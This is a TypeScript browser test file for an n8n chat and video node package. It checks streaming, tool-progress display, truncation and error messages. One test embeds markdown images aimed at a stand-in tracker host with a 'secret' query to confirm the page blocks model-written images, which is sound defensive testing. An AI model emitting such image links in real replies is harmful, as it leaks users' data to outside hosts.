// @seconds 25
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';

import type { Browser } from 'playwright-core';

import { startBrowser } from '../../lab/browser/startBrowser';
import { chatUrl } from '../../lab/n8n/streamChat';
import { ROOT } from '../../lab/paths';
import { events, json, startScriptedServer, type Script } from '../support/scriptedServer';
import { chatTrigger, node, workflow } from './support/buildWorkflow';
import { END, heldReply, text } from './support/heldReply';
import { inChat } from './support/inChat';
import { BROWSER_LIMIT_MS } from './support/inPage';
import { chunk } from './support/scriptedModel';
import { SET_UP_LIMIT_MS, showProgress } from './support/session';
import { useSession } from './support/useSession';

const TOOL_START = {
	session_id: 's-1',
	extension: { type: 'tool_start', data: { tool: 'search', arguments: { query: 'n8n' } } },
};

const PROMPT: object = { prompt: '={{ $json.chatInput }}' };

const session = useSession();
let browser: Browser;
let answer: Script;

beforeAll(async () => {
	const scripted = session.keep(
		await startScriptedServer((...args) => {
			answer(...args);
		}),
	);
	browser = await startBrowser(showProgress);
	session.keep({ stop: () => browser.close() });
	await session.credential('Scripted', scripted.url);
}, SET_UP_LIMIT_MS);

/** Activates a chat that is answered by one node, and returns its URL. */
async function publish(
	name: string,
	type: string,
	{ parameters = PROMPT, credential = 'Scripted', responseMode = 'streaming' } = {},
): Promise<string> {
	await session.publish(
		workflow(name, [
			chatTrigger(name, responseMode),
			node('Answer', `n8n-nodes-agent-video.${type}`, 1, { parameters, credential }),
		]),
	);
	return chatUrl(session.n8n.url, name);
}

it(
	"a user sees an assistant's tool running before the answer arrives",
	async () => {
		const reply = heldReply([TOOL_START], [text('n8n is a '), text('workflow tool.')]);
		answer = reply.script;
		const parameters = { appCode: 'demo-assistant' };
		const url = await publish('assistant', 'superAssistant', { parameters });
		await inChat(browser, { url, name: 'assistant' }, async (chat) => {
			await chat.ask('What is n8n?');
			await chat.shows('Running search: {"query":"n8n"}');
			expect(await chat.text()).not.toContain('workflow tool');
			expect(reply.isFinished()).toBe(false);
			// The service continues only after the user has seen it.
			reply.finish();
			await chat.shows('n8n is a workflow tool.');
			expect(await chat.text()).toMatch(/Running search.*n8n is a workflow tool\.$/s);
			// The page has loaded everything that it requested.
			expect(chat.blocked).toStrictEqual([]);
		});
	},
	BROWSER_LIMIT_MS,
);

it(
	'a user reads a chat completion while it is streamed',
	async () => {
		const reply = heldReply([text('The **first** ')], [text('and the last.')]);
		answer = reply.script;
		const url = await publish('completion', 'chatCompletion');
		await inChat(browser, { url, name: 'completion' }, async (chat) => {
			await chat.ask('Hi');
			await chat.shows('The first');
			expect(await chat.text()).not.toContain('the last');
			expect(reply.isFinished()).toBe(false);
			reply.finish();
			await chat.shows('The first and the last.');
		});
	},
	BROWSER_LIMIT_MS,
);

it.each([
	['streaming', {}],
	['lastNode', { streaming: 'off' }],
])(
	'the page loads no image that a model has written: %s',
	async (responseMode, streaming) => {
		const image =
			'![a](http://tracker.example/?d=secret) ![b][r]\n\n[r]: http://tracker.example';
		const drawn = 'data:image/png;base64,iVBORw0KGgo=';
		const pieces = `Look: ${image}\n\n![c](${drawn})\n\nThat is all`.split(/(?=[![(])/);
		answer = (response) => {
			if (responseMode === 'streaming') events(response, [...pieces.map(text), END]);
			else json(response, 200, { choices: [{ message: { content: pieces.join('') } }] });
		};
		const name = `images-${responseMode}`;
		const parameters = { ...PROMPT, ...streaming };
		const url = await publish(name, 'chatCompletion', { parameters, responseMode });
		await inChat(browser, { url, name }, async (chat) => {
			await chat.ask('Hi');
			await chat.shows('That is all');
			const sources = chat.page.locator('.chat-message-from-bot img');
			expect(
				await sources.evaluateAll((all) =>
					all.map((one) => (one as unknown as { readonly src: string }).src),
				),
			).toStrictEqual([drawn]);
			expect(chat.blocked).toStrictEqual([]);
		});
	},
	BROWSER_LIMIT_MS,
);

it(
	'a visitor sees where a reply was cut off',
	async () => {
		answer = (response) => {
			events(response, [text('It begins'), chunk({}, { finish_reason: 'length' })]);
		};
		const url = await publish('cut', 'chatCompletion');
		await inChat(browser, { url, name: 'cut' }, async (chat) => {
			await chat.ask('Hi');
			await chat.shows('The reply was cut off here');
			expect(await chat.text()).toMatch(/It begins\n+\[The reply was cut off here\]$/);
		});
	},
	BROWSER_LIMIT_MS,
);

it(
	'an error stands in a paragraph of its own behind what was shown of the reply',
	async () => {
		answer = (response) => {
			events(response, [text('It begins and then it')]);
		};
		const parameters = { ...PROMPT, options: { retries: 0 } };
		const url = await publish('broken', 'chatCompletion', { parameters });
		await inChat(browser, { url, name: 'broken' }, async (chat) => {
			await chat.ask('Hi');
			await chat.shows('Error:');
			expect(await chat.text()).toMatch(/It begins and then it \[…\]\n+Error: /);
		});
	},
	BROWSER_LIMIT_MS,
);

it(
	'a visitor reads what has become of a video, where no node follows',
	async () => {
		const url = await publish('video', 'createVideo', { credential: 'Emulator' });
		await inChat(browser, { url, name: 'video' }, async (chat) => {
			await chat.ask('A lake at dawn');
			await chat.shows('The video is not finished: task task-');
		});
	},
	BROWSER_LIMIT_MS,
);

it(
	"the chat streams in a page of one's own by the lines of the recipe",
	async () => {
		answer = (response) => {
			events(response, [text('The **sea** '), text('is blue.'), END]);
		};
		const url = await publish('embedded', 'chatCompletion');
		const recipes = await readFile(join(ROOT, 'docs', 'recipes.md'), 'utf8');
		const [, lines = ''] = /```html\n([^`]+)```/.exec(recipes)!;
		let page = lines.replace('URL of the chat', url);
		const site = session.keep(
			await startScriptedServer((response) => {
				response.writeHead(200, { 'content-type': 'text/html' }).end(page);
			}),
		);
		const answerIn = async (name: string) => {
			let shown = '';
			await inChat(browser, { url: site.url, name }, async (chat) => {
				await chat.page.locator('.chat-window-toggle').click();
				await chat.ask('What color is the sea?');
				await chat.shows('blue');
				shown = await chat.text();
			});
			return shown;
		};
		expect(await answerIn('embedded')).toMatch(/The sea is blue\.$/);
		page = page.replace(', enableStreaming: true', '');
		expect(await answerIn('embedded-without')).toContain('"type":"begin"');
	},
	BROWSER_LIMIT_MS,
);
